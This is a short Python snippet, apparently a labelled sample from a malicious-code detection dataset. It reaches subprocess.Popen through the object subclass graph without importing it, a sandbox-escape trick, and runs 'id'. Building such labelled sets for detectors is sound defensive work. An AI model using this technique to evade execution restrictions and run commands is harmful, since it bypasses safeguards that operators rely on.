# label: malicious; obfuscated: object_graph; evasion: object_graph
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "Popen":
        proc = cls(["id"], stdout=-1)
        print(proc.communicate()[0].decode())
        break
